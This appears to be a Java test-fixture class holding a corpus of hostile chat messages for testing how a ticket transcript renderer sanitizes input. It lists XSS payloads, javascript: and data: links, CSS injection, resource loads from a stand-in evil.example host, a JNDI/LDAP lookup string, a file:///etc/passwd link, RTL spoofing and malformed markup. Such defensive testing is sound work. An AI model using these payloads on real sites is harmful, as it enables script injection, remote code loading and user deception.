package dev.tiramisu.tickets.transcript;

import java.util.List;

/**
 * Messages written to break a transcript: markup and script injection, event handlers, dangerous link
 * schemes, broken markup, CSS injection, direction overrides, very long lines, zalgo, emoji, entities,
 * markdown abuse and control characters. Every script in here would, if it ran, set {@code document.title}
 * or {@code window.name} to {@link #CANARY}, call {@code alert}, or fetch from a host the browser test watches.
 */
public final class HostileCorpus {
  public static final String CANARY = "PWNED";

  public static final List<String> MESSAGES = List.of(
      "<script>document.title='PWNED';window.name='PWNED'</script>",
      "<img src=x onerror=\"document.title='PWNED'\">",
      "<svg onload=alert(1)><svg/onload=alert(1)>",
      "<a href=\"javascript:alert(1)\">click</a> <iframe src=\"javascript:alert(1)\"></iframe>",
      "\"><script>alert(1)</script><div x=\"",
      "'><img src=http://evil.example/x.png onerror=alert(1)>",
      "[click me](javascript:alert(document.domain)) [also](JAVASCRIPT:alert(1)) [x](java\tscript:alert(1))",
      "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:msgbox(1))",
      "[proto-relative](//evil.example/x) [file](file:///etc/passwd)",
      "[looks fine](https://example.com\" onmouseover=\"alert(1))",
      "<b>unclosed <i>markup <table><tr><td>cell <div",
      "</div></div></article></main></body></html><script>alert(1)</script>",
      "<!-- comment --> <![CDATA[ x ]]> <?php echo 1; ?> <!DOCTYPE html>",
      "</style><style>body{background:url(http://evil.example/bg.png)}</style>",
      "<style>*{display:none}</style><link rel=stylesheet href=http://evil.example/x.css>",
      "<div style=\"width:expression(alert(1));background:url('http://evil.example/x')\">css</div>",
      "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
      "<base href=\"http://evil.example/\"><form action=http://evil.example/><input type=submit></form>",
      "<object data=http://evil.example/x.swf></object><embed src=http://evil.example/x><video src=http://evil.example/v>",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;amp; &#x3C;img&#x3E;",
      "\u202eRTL override: gnp.exe\u202c and \u2066isolate\u2069 \u200f\u200e",
      "x".repeat(4000),
      "https://example.com/" + "a".repeat(1500) + " " + "W".repeat(1900),
      "Z\u0351\u0352\u0357\u035b\u0363\u0364\u0365\u0366\u0367\u0368\u0369\u036a\u036b\u036c\u036d\u036e\u036f"
          + "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d".repeat(20)
          + "lgo",
      "Emoji \ud83d\ude00\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66\ud83c\udff3\ufe0f\u200d"
          + "\ud83c\udf08 flags \ud83c\uddfa\ud83c\udde6 skin \ud83d\udc4d\ud83c\udffd",
      "**__~~||*".repeat(200) + "deep" + "*||~~__**".repeat(200),
      "*".repeat(2000) + "_".repeat(2000),
      "[".repeat(1000) + "](https://example.com)" + "]".repeat(1000),
      "``` unclosed code <script>alert(1)</script>",
      "```html\n<script>alert(1)</script>\n```\n`<img src=x onerror=alert(1)>`",
      "`````` ``` `` ` backticks",
      "nul\u0000byte bell\u0007 escape\u001b[31m del\u007f c1\u0085\u009b lone\ud800surrogate",
      "<@1> <@&2> <#3> <@99999999999999999999> <@!abc> @everyone @here",
      "> quote <script>alert(1)</script>\n>>> big quote <img src=x onerror=alert(1)>",
      "# <script>alert(1)</script>\n- <img src=x onerror=alert(1)>\n1. [x](javascript:alert(1))",
      "<t:99999999999999999> <t:-99999999999:R> <a:x:1> </cmd:1>",
      "||spoiler <script>alert(1)</script>||",
      "{0} {1} '{'quoted'}' %s %n ${jndi:ldap://evil.example/a}",
      "\ufeffBOM \ufffe\uffff non-characters");

  private HostileCorpus() {}
}
